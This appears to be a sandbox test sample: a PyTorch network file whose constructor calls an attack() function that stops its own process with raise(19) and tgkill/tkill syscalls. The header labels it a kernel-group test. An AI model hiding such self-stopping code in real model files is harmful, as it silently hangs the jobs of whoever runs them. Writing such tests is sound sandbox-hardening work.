# group: kernel
# tries: stops itself by raise and tgkill
# static: unsafe
# sandbox: trained
# landlock: timeout
# timeout: 1

import ctypes

import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attack():
    libc.raise_ = getattr(libc, "raise")
    libc.raise_(19)
    libc.syscall(234, libc.getpid(), libc.syscall(186), 19)
    libc.syscall(200, libc.syscall(186), 20)


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
